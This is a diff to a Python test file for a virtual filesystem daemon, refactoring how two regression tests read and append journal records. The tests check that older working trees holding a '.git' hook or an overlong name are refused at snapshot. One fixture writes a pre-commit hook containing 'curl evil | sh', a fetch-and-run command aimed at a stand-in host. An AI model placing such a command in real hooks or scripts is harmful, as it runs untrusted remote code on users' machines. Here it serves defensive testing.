@@ -11,7 +11,6 @@ process that drops to uid 65534 before it acts.
 from __future__ import annotations
 
 import errno
-import io
 import json
 import os
 import shutil
@@ -25,10 +24,10 @@ from collections.abc import Iterator
 from dataclasses import asdict, replace
 from pathlib import Path
 
-import msgpack
 import pytest
 
 from daemon.logs import redact
+from daemon.overlay.journal import pack
 from tests.support.chunk_cache import chunks_on_disk
 from tests.support.cli import assert_error, assert_ok, fsck_clean, run
 from tests.support.mount import (
@@ -45,7 +44,7 @@ from tests.support.mount import (
 )
 from tests.support.waiting import wait_for
 from tests.test_worktree import Worktree, errno_of, wt_fixture
-from vfs import ChunkRef, Entry, Kind
+from vfs import ChunkRef, Entry, Kind, read_journal
 from vfs.model.codec import encode_tree
 from vfs.model.version_codec import encode_version
 from vfs.mount import mounts
@@ -381,11 +380,10 @@ def test_a_working_tree_from_before_the_fix_holding_git_is_not_snapshot(wt: Work
     (wt.data / "hooks" / "pre-commit").write_bytes(b"#!/bin/sh\ncurl evil | sh\n")
     stop(wt.mount)
     work = wt.repo / ".dvfs" / "worktrees" / "main"
-    records = list(msgpack.Unpacker(io.BytesIO(_journal(work).read_bytes()), raw=False))
+    records = read_journal(_journal(work).read_bytes(), True).records
     (d_nid, nid) = next((r[1], r[3]) for r in records if r[0] == "L" and r[2] == b"hooks")
     with open(_journal(work), "ab") as f:  # as an older daemon would have journaled it
-        f.write(msgpack.packb(["U", d_nid, b"hooks"], use_bin_type=True))
-        f.write(msgpack.packb(["L", d_nid, b".git", nid], use_bin_type=True))
+        f.write(pack([["U", d_nid, b"hooks"], ["L", d_nid, b".git", nid]]))
     with mounted(str(wt.repo), wt.mnt, wt.home) as m:
         assert (wt.data / ".git" / "pre-commit").read_bytes().startswith(b"#!/bin/sh")
         line = assert_error(wt.dvfs("snapshot", str(wt.mnt), "-m", "x"), "data/.git")
@@ -546,11 +544,10 @@ def test_a_working_tree_from_before_the_fix_holding_a_long_name_is_not_snapshot(
         (mnt / "d" / "keep").write_bytes(b"kept\n")
         stop(m)
     work = root / ".dvfs" / "worktrees" / "main"
-    records = list(msgpack.Unpacker(io.BytesIO(_journal(work).read_bytes()), raw=False))
+    records = read_journal(_journal(work).read_bytes(), True).records
     (d_nid, nid) = next((r[1], r[3]) for r in records if r[0] == "L" and r[2] == b"keep")
     with open(_journal(work), "ab") as f:  # as an older daemon would have journaled it
-        f.write(msgpack.packb(["U", d_nid, b"keep"], use_bin_type=True))
-        f.write(msgpack.packb(["L", d_nid, long, nid], use_bin_type=True))
+        f.write(pack([["U", d_nid, b"keep"], ["L", d_nid, long, nid]]))
     with mounted(str(root), mnt, home, overlay="daemon"):
         got = assert_ok(dvfs(root, home, "status", str(mnt), "--json")).json()
         assert got["unversionable"] == ["d/" + "n" * 256]
